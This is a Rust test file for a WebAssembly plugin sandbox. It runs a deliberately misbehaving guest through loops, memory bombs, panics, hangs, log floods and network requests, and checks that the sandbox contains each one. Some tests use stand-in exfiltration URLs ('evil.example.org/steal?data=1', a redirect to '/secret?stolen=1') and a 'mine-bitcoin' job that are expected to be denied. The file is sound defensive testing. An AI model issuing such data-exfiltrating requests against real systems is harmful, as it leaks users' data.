//! The plugin sandbox of `wikidash-runtime`, exercised with the misbehaving test guest
//! (`plugins/test-guests/misbehave`) and the guest built against `wikidash:importer@0.2.0`.
//!
//! Each misbehaviour must fail only its own call, with the matching `JobError`: an endless loop,
//! a memory bomb, a panic, a request to an undeclared host, a fetch that never returns. A log
//! flood must not fail at all. After each, the same `Runtime` and `Plugin` run an `echo` job
//! normally. Loading covers the interface-version check, bytes that are not a component, and
//! the cache of compiled components. Network traffic goes only to 127.0.0.1: the seeded MediaWiki and
//! `FaultProxy` instances this file starts. The URL of the undeclared host is denied before any
//! connection is made.
//!
//! The guest has no job kind that reads files or environment variables, so the absence of a
//! filesystem and an environment in the sandbox is not tested here.

use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use wikidash_net::{HttpClient, HttpRequest, Method};
use wikidash_policy::{Etiquette, ManifestError};
use wikidash_runtime::wit::{ImportError, Item, Job, Output};
use wikidash_runtime::{JobContext, JobError, LoadError, Plugin, Runtime, RuntimeConfig};
use wikidash_tests::mediawiki::{MediaWiki, workspace_root};
use wikidash_tests::proxy::{Fault, FaultProxy, Rule};

const MISBEHAVE_FILE: &str = "wikidash_test_guest_misbehave.wasm";
const FUTURE_API_FILE: &str = "wikidash_test_guest_future_api.wasm";
/// How the runtime names the misbehaving guest once its manifest is read.
const MISBEHAVE_LABEL: &str = "misbehave 0.1.0";

const CPU_BUDGET: Duration = Duration::from_millis(200);
const MEMORY_LIMIT_BYTES: usize = 32 * 1024 * 1024;
/// Far above anything a well-behaved call needs, so only the limit under test can stop a call.
const GENEROUS_CALL_TIMEOUT: Duration = Duration::from_secs(60);
const MAX_LOG_LINES: u32 = 100;

/// Fast retries, so a failing request costs milliseconds.
fn etiquette() -> Etiquette {
    Etiquette {
        base_backoff: Duration::from_millis(10),
        max_wait: Duration::from_millis(200),
        max_retries: 2,
        ..Etiquette::default()
    }
}

/// Returns the limits under test, all active in every test, with the compiled-component cache
/// that the command-line tests share, so each test process compiles the guest at most once.
fn config() -> RuntimeConfig {
    RuntimeConfig {
        memory_limit_bytes: MEMORY_LIMIT_BYTES,
        cpu_budget: CPU_BUDGET,
        call_timeout: GENEROUS_CALL_TIMEOUT,
        cache_dir: Some(workspace_root().join("target").join("test-component-cache")),
        max_log_lines: MAX_LOG_LINES,
        ..RuntimeConfig::default()
    }
}

fn runtime(config: RuntimeConfig) -> Runtime {
    let http = HttpClient::new(etiquette(), "0.1.0").expect("building the HTTP client");
    Runtime::new(config, http).expect("setting up the plugin runtime")
}

fn component_bytes(file: &str) -> Vec<u8> {
    let path = wikidash_builtin::component_dir().join(file);
    std::fs::read(&path).unwrap_or_else(|error| panic!("failed to read the test guest {}: {error}", path.display()))
}

async fn load_misbehave(runtime: &Runtime) -> Plugin {
    let plugin = runtime
        .load(MISBEHAVE_FILE, &component_bytes(MISBEHAVE_FILE))
        .await
        .unwrap_or_else(|error| panic!("loading {MISBEHAVE_FILE} failed: {error}"));
    assert_eq!(plugin.label(), MISBEHAVE_LABEL);
    plugin
}

/// Builds a job of `kind` with the given options and every other field empty.
fn job(kind: &str, options: &[(&str, &str)]) -> Job {
    Job {
        kind: kind.to_string(),
        wiki: "https://wiki.example.org/w/api.php".to_string(),
        usernames: Vec::new(),
        page_ids: Vec::new(),
        titles: Vec::new(),
        revision_ids: Vec::new(),
        window: None,
        namespaces: Vec::new(),
        limit: None,
        options: options.iter().map(|(name, value)| (name.to_string(), value.to_string())).collect(),
    }
}

fn context(campaign_wiki_origins: &[String]) -> JobContext {
    JobContext { campaign: "sandbox-tests".to_string(), campaign_wiki_origins: campaign_wiki_origins.to_vec() }
}

/// Returns the site name of the single `site` item that `echo` and `fetch` return.
fn only_sitename(output: &Output) -> &str {
    assert_eq!(output.items.len(), 1, "expected one item, got {:?}", output.items);
    assert_eq!(output.next_cursor, None);
    match &output.items[0] {
        Item::Site(site) => &site.sitename,
        other => panic!("expected a site item, got {other:?}"),
    }
}

/// Runs `echo` on `plugin` and checks its output, which shows the host still serves calls.
async fn assert_echo_runs(plugin: &Plugin, context: &JobContext) {
    let output = plugin
        .run(context, &job("echo", &[("name", "still running")]), None)
        .await
        .unwrap_or_else(|error| panic!("echo failed after a misbehaving call: {error}"));
    assert_eq!(only_sitename(&output), "still running");
}

fn cwasm_files(dir: &Path) -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap_or_else(|error| panic!("failed to list {}: {error}", dir.display()))
        .map(|entry| entry.expect("reading a directory entry").path())
        .collect();
    files.sort();
    files
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn endless_loop_exceeds_cpu_budget_and_host_survives() {
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let context = context(&[]);

    let error = plugin.run(&context, &job("loop", &[]), None).await.expect_err("an endless loop cannot succeed");

    let JobError::CpuBudget { plugin: label, budget } = &error else {
        panic!("expected JobError::CpuBudget, got {error:?}");
    };
    assert_eq!(label, MISBEHAVE_LABEL);
    assert_eq!(*budget, CPU_BUDGET);
    let message = error.to_string();
    assert!(message.contains("plugin misbehave 0.1.0"), "{message}");
    assert!(message.contains("CPU budget of 200ms"), "{message}");
    assert!(!error.is_transient(), "a CPU overrun repeats on retry");
    assert_echo_runs(&plugin, &context).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn looping_call_does_not_block_concurrent_echo() {
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let context = context(&[]);
    let looping_job = job("loop", &[]);
    let echo_job = job("echo", &[("name", "alongside a loop")]);

    let (looped, echoed) =
        tokio::join!(plugin.run(&context, &looping_job, None), plugin.run(&context, &echo_job, None));

    assert!(matches!(looped, Err(JobError::CpuBudget { .. })), "{looped:?}");
    let output = echoed.unwrap_or_else(|error| panic!("echo next to a looping call failed: {error}"));
    assert_eq!(only_sitename(&output), "alongside a loop");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn memory_bomb_hits_memory_limit_and_host_survives() {
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let context = context(&[]);

    let error = plugin.run(&context, &job("memory-bomb", &[]), None).await.expect_err("a memory bomb cannot succeed");

    let JobError::MemoryLimit { plugin: label, limit_mib } = &error else {
        panic!("expected JobError::MemoryLimit, got {error:?}");
    };
    assert_eq!(label, MISBEHAVE_LABEL);
    assert_eq!(*limit_mib, 32);
    let message = error.to_string();
    assert!(message.contains("memory limit of 32 MiB"), "{message}");
    assert_echo_runs(&plugin, &context).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn panic_is_a_trap_carrying_guest_stderr() {
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let context = context(&[]);
    let panicking_job = job("panic", &[]);

    let error = plugin.run(&context, &panicking_job, None).await.expect_err("a panic cannot succeed");

    let JobError::Trap { plugin: label, message, stderr } = &error else {
        panic!("expected JobError::Trap, got {error:?}");
    };
    assert_eq!(label, MISBEHAVE_LABEL);
    assert!(!message.is_empty(), "the trap has no description");
    let panic_text = format!("misbehave panicked on purpose in job {}", panicking_job.wiki);
    assert!(stderr.contains(&panic_text), "stderr is {stderr:?}");
    let display = error.to_string();
    assert!(display.starts_with("plugin misbehave 0.1.0 crashed: "), "{display}");
    assert!(display.contains(&panic_text), "{display}");
    assert_echo_runs(&plugin, &context).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn undeclared_host_is_denied_before_sending() {
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let allowed = FaultProxy::start("http://127.0.0.1:9");
    let context = context(&[allowed.base_url()]);

    let error = plugin
        .run(&context, &job("fetch", &[("url", "https://evil.example.org/steal?data=1")]), None)
        .await
        .expect_err("a request to an undeclared host must fail");

    let JobError::Plugin { plugin: label, error: ImportError::Denied(message) } = &error else {
        panic!("expected ImportError::Denied, got {error:?}");
    };
    assert_eq!(label, MISBEHAVE_LABEL);
    assert!(message.contains("https://evil.example.org"), "{message}");
    assert!(message.contains("plugin misbehave 0.1.0"), "{message}");
    assert!(message.contains(&format!("campaign-wikis ({})", allowed.base_url())), "{message}");
    assert!(runtime.http().stats().is_empty(), "requests reached the HTTP client: {:?}", runtime.http().stats());
    assert_eq!(allowed.request_count(), 0);
    assert_echo_runs(&plugin, &context).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unlisted_loopback_port_receives_nothing() {
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let allowed = FaultProxy::start("http://127.0.0.1:9");
    let unlisted = FaultProxy::start("http://127.0.0.1:9");
    let context = context(&[allowed.base_url()]);
    let url = format!("{}/api.php?action=query&meta=siteinfo&format=json", unlisted.base_url());

    let error = plugin
        .run(&context, &job("fetch", &[("url", &url)]), None)
        .await
        .expect_err("an unlisted origin must be denied");

    let JobError::Plugin { error: ImportError::Denied(message), .. } = &error else {
        panic!("expected ImportError::Denied, got {error:?}");
    };
    assert!(message.contains(&format!("may not connect to {}", unlisted.base_url())), "{message}");
    assert!(message.contains(&format!("campaign-wikis ({})", allowed.base_url())), "{message}");
    assert_eq!(unlisted.request_count(), 0);
    assert_eq!(allowed.request_count(), 0);
    assert!(runtime.http().stats().is_empty(), "{:?}", runtime.http().stats());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn campaign_wiki_fetch_reports_status_and_size() {
    let wiki = MediaWiki::start();
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let context = context(&[wiki.base_url()]);
    let url = format!("{}?action=query&prop=info&pageids=5&format=json", wiki.api_url());
    // The same request without the sandbox, to learn the body size the guest must report.
    let direct_client = HttpClient::new(etiquette(), "0.1.0").expect("building the HTTP client");
    let direct = direct_client
        .fetch(HttpRequest { method: Method::Get, url: url.clone(), headers: Vec::new(), body: None })
        .await
        .expect("fetching page 5 directly");
    let page: serde_json::Value = serde_json::from_slice(&direct.body).expect("api.php returns JSON");
    assert_eq!(page["query"]["pages"][0]["title"], "Alpha", "{page}");

    let output = plugin.run(&context, &job("fetch", &[("url", &url)]), None).await.expect("fetching a campaign wiki");

    assert_eq!(only_sitename(&output), format!("HTTP 200 with {} bytes", direct.body.len()));
    let stats = runtime.http().stats();
    let wiki_stats =
        stats.get(&wiki.base_url()).unwrap_or_else(|| panic!("no requests counted for {}: {stats:?}", wiki.base_url()));
    assert_eq!(wiki_stats.requests, 1);
    assert_eq!(wiki_stats.attempts, 1);
    assert_eq!(wiki_stats.failures, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn blocked_fetch_times_out_and_host_survives() {
    let wiki = MediaWiki::start();
    let proxy = FaultProxy::start(&wiki.base_url());
    proxy.inject(Rule::NthRequest(0), vec![Fault::Hang]);
    // Short enough to keep the test quick, long enough for the follow-up fetch to finish.
    let call_timeout = Duration::from_secs(3);
    let runtime = runtime(RuntimeConfig { call_timeout, ..config() });
    let plugin = load_misbehave(&runtime).await;
    let context = context(&[proxy.base_url()]);
    let fetch_job = job("fetch", &[("url", &format!("{}?action=query&meta=siteinfo&format=json", proxy.api_url()))]);

    let error = plugin.run(&context, &fetch_job, None).await.expect_err("a fetch that never returns must time out");

    let JobError::Timeout { plugin: label, limit } = &error else {
        panic!("expected JobError::Timeout, got {error:?}");
    };
    assert_eq!(label, MISBEHAVE_LABEL);
    assert_eq!(*limit, call_timeout);
    assert!(error.to_string().contains("did not finish within 3s"), "{error}");
    assert!(error.is_transient(), "a timeout may pass on retry");
    let requests = proxy.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].fault.as_deref(), Some("Hang"));

    assert_echo_runs(&plugin, &context).await;
    // The cancelled call released the per-origin lock, so the next fetch to the origin succeeds.
    let output = plugin.run(&context, &fetch_job, None).await.expect("fetching after the timeout");
    assert!(only_sitename(&output).starts_with("HTTP 200 with "), "{output:?}");
    assert_eq!(proxy.request_count(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn calls_over_limit_wait_their_turn() {
    let wiki = MediaWiki::start();
    let proxy = FaultProxy::start(&wiki.base_url());
    proxy.inject(Rule::NthRequest(0), vec![Fault::Hang]);
    let call_timeout = Duration::from_secs(2);
    let runtime = runtime(RuntimeConfig { call_timeout, concurrent_calls: 1, ..config() });
    let plugin = load_misbehave(&runtime).await;
    let context = context(&[proxy.base_url()]);
    let fetch_job = job("fetch", &[("url", &format!("{}?action=query&meta=siteinfo&format=json", proxy.api_url()))]);

    let start = std::time::Instant::now();
    let hanging = async {
        let result = plugin.run(&context, &fetch_job, None).await;
        (result, start.elapsed())
    };
    let waiting = async {
        // Let the hanging call take the only turn first.
        while proxy.request_count() == 0 {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        let output = plugin.run(&context, &job("echo", &[("name", "after")]), None).await;
        (output, start.elapsed())
    };
    let ((hung, hung_at), (echoed, echoed_at)) = tokio::join!(hanging, waiting);

    assert!(matches!(hung, Err(JobError::Timeout { .. })), "{hung:?}");
    assert_eq!(only_sitename(&echoed.expect("the echo runs once the turn is free")), "after");
    assert!(echoed_at >= hung_at, "the echo ran at {echoed_at:?}, before the hanging call ended at {hung_at:?}");
    assert!(echoed_at >= call_timeout, "the echo did not wait for its turn: {echoed_at:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn log_flood_succeeds_past_line_cap() {
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let context = context(&[]);
    let lines = (MAX_LOG_LINES * 50).to_string();

    let output = plugin
        .run(&context, &job("log-flood", &[("lines", &lines)]), None)
        .await
        .unwrap_or_else(|error| panic!("a log flood must not fail its call: {error}"));

    assert!(output.items.is_empty(), "{:?}", output.items);
    assert_eq!(output.next_cursor, None);
    assert_echo_runs(&plugin, &context).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_job_kind_is_rejected() {
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let context = context(&[]);

    let error = plugin.run(&context, &job("mine-bitcoin", &[]), None).await.expect_err("an unknown kind must fail");

    let JobError::UnknownKind { plugin: label, kind } = &error else {
        panic!("expected JobError::UnknownKind, got {error:?}");
    };
    assert_eq!(label, MISBEHAVE_LABEL);
    assert_eq!(kind, "mine-bitcoin");
    assert_eq!(error.to_string(), "plugin misbehave 0.1.0 does not serve job kind \"mine-bitcoin\"");
    assert_echo_runs(&plugin, &context).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn future_api_component_is_rejected_at_load() {
    let runtime = runtime(config());

    let result = runtime.load(FUTURE_API_FILE, &component_bytes(FUTURE_API_FILE)).await;

    let error = match result {
        Ok(plugin) => panic!("loading a wikidash:importer@0.2.0 component succeeded as {}", plugin.label()),
        Err(error) => error,
    };
    let LoadError::Manifest { source_name, reason: ManifestError::ApiVersion { found, .. } } = &error else {
        panic!("expected an unsupported API version, got {error:?}");
    };
    assert_eq!(source_name, FUTURE_API_FILE);
    assert_eq!(found, "0.2.0");
    let message = error.to_string();
    assert!(message.contains("wikidash:importer@0.2.0"), "{message}");
    assert!(message.contains("supports wikidash:importer@0.1.0"), "{message}");
    // The same runtime still loads a supported component.
    let plugin = load_misbehave(&runtime).await;
    assert_echo_runs(&plugin, &context(&[])).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bytes_that_are_no_component_fail_to_compile() {
    let runtime = runtime(config());
    // A text file, and an empty core module: valid WebAssembly, but not a component.
    let cases: [(&str, &[u8]); 2] =
        [("notes.txt", b"this is not WebAssembly"), ("empty-module.wasm", b"\0asm\x01\0\0\0")];

    for (source_name, bytes) in cases {
        let result = runtime.load(source_name, bytes).await;

        let error = match result {
            Ok(plugin) => panic!("{source_name}: loading succeeded as {}", plugin.label()),
            Err(error) => error,
        };
        let LoadError::Compile { source_name: named, detail } = &error else {
            panic!("{source_name}: expected LoadError::Compile, got {error:?}");
        };
        assert_eq!(named, source_name);
        assert!(!detail.is_empty(), "{source_name}: the compile error has no detail");
        let message = error.to_string();
        assert!(message.starts_with(&format!("plugin {source_name}: not a valid WebAssembly component")), "{message}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compiled_component_is_cached_and_reused() {
    let cache = tempfile::tempdir().expect("creating a cache folder");
    let cached_config = RuntimeConfig { cache_dir: Some(cache.path().to_path_buf()), ..config() };

    let first_runtime = runtime(cached_config.clone());
    load_misbehave(&first_runtime).await;
    drop(first_runtime);

    let files = cwasm_files(cache.path());
    assert_eq!(files.len(), 1, "expected one cache entry, found {files:?}");
    let entry = &files[0];
    assert_eq!(entry.extension().and_then(|extension| extension.to_str()), Some("cwasm"), "{}", entry.display());
    let written = std::fs::metadata(entry).expect("reading the cache entry's metadata");
    assert!(written.len() > 0, "{} is empty", entry.display());

    let second_runtime = runtime(cached_config);
    let plugin = load_misbehave(&second_runtime).await;
    assert_echo_runs(&plugin, &context(&[])).await;

    // A second compilation would have replaced the entry with a new file (write, then rename).
    assert_eq!(cwasm_files(cache.path()), files);
    let read = std::fs::metadata(entry).expect("reading the cache entry's metadata");
    assert_eq!(read.ino(), written.ino(), "the cache entry was rewritten instead of loaded");
    assert_eq!(read.modified().unwrap(), written.modified().unwrap());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn corrupt_cache_entry_is_compiled_again() {
    let cache = tempfile::tempdir().expect("creating a cache folder");
    let cached_config = RuntimeConfig { cache_dir: Some(cache.path().to_path_buf()), ..config() };
    load_misbehave(&runtime(cached_config.clone())).await;
    let files = cwasm_files(cache.path());
    assert_eq!(files.len(), 1, "expected one cache entry, found {files:?}");
    std::fs::write(&files[0], b"not a compiled component").expect("overwriting the cache entry");

    let plugin = load_misbehave(&runtime(cached_config)).await;

    assert_echo_runs(&plugin, &context(&[])).await;
    assert_eq!(cwasm_files(cache.path()), files);
    let rewritten = std::fs::read(&files[0]).expect("reading the cache entry");
    assert_ne!(rewritten, b"not a compiled component", "the unusable entry was not replaced");
}

/// Serve on 127.0.0.1: `/redirect` answers 302 to `location`; any other path answers 200 with
/// body `landed`. Returns the server's base URL.
fn serve_redirect(location: String) -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("binding a test server");
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        use std::io::{Read as _, Write as _};
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut buffer = [0u8; 4096];
            let read = stream.read(&mut buffer).unwrap_or(0);
            let head = String::from_utf8_lossy(&buffer[..read]).into_owned();
            let response = if head.starts_with("GET /redirect") {
                format!("HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            } else {
                "HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nlanded".to_string()
            };
            let _ = stream.write_all(response.as_bytes());
        }
    });
    base
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redirect_to_an_undeclared_host_is_denied() {
    let wiki = MediaWiki::start();
    let unlisted = FaultProxy::start(&wiki.base_url());
    let allowed = serve_redirect(format!("{}/secret?stolen=1", unlisted.base_url()));
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let context = context(std::slice::from_ref(&allowed));

    let url = format!("{allowed}/redirect");
    let error =
        plugin.run(&context, &job("fetch", &[("url", &url)]), None).await.expect_err("the redirect must be denied");

    let JobError::Plugin { error: ImportError::Denied(message), .. } = &error else {
        panic!("expected a denied request, got {error:?}");
    };
    assert!(message.contains(&format!("{url} redirected to {}/secret", unlisted.base_url())), "{message}");
    assert!(message.contains(&format!("may not connect to {}", unlisted.base_url())), "{message}");
    assert_eq!(unlisted.request_count(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redirect_within_an_allowed_host_is_followed() {
    let listener_base = serve_redirect("/landing".to_string());
    let runtime = runtime(config());
    let plugin = load_misbehave(&runtime).await;
    let context = context(std::slice::from_ref(&listener_base));

    let url = format!("{listener_base}/redirect");
    let output =
        plugin.run(&context, &job("fetch", &[("url", &url)]), None).await.expect("a same-host redirect is fine");
    assert_eq!(only_sitename(&output), "HTTP 200 with 6 bytes");
}
